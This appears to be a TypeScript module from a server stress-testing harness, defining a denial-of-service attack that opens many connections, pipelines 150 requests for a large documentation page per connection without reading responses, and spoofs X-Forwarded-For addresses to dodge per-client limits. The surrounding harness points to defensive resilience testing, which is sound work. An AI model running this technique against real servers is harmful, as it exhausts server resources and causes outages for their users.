import { setTimeout as pause } from 'node:timers/promises';
import { open, requestText } from '../../../../hostile/raw.js';
import { addressIn } from '../accounts.js';
import { type Attack, repeatedly } from '../attack.js';

const ADDRESSES = 4;
const CONNECTIONS = 4;
const REQUESTS = 150;
/** The largest page that anybody may ask for. */
const PATH = '/docs/api';
const BLOCK = 39;
/** Then the client leaves and returns, because a client that reads nothing doesn't notice a disconnection. */
const HELD_MS = 20_000;
const STEP_MS = 100;

/** 150 requests for a page of megabytes on one connection, of which not a byte is read; then another. */
export const unreadPages: Attack = async (target) => {
  const reader = (address: string) => async (): Promise<void> => {
    const bytes = requestText(`GET ${PATH}`, [`X-Forwarded-For: ${address}`]).repeat(REQUESTS);
    const socket = open(target.url);
    socket.pause().write(bytes);
    target.count('connections with 150 requests each, never read', 'opened');
    for (let held = 0; held < HELD_MS && !target.over(); held += STEP_MS) await pause(STEP_MS);
    socket.destroy();
  };
  return () =>
    Promise.all(
      Array.from({ length: ADDRESSES * CONNECTIONS }, (_, n) =>
        repeatedly(target, STEP_MS, reader(addressIn(BLOCK, n % ADDRESSES))),
      ),
    );
};
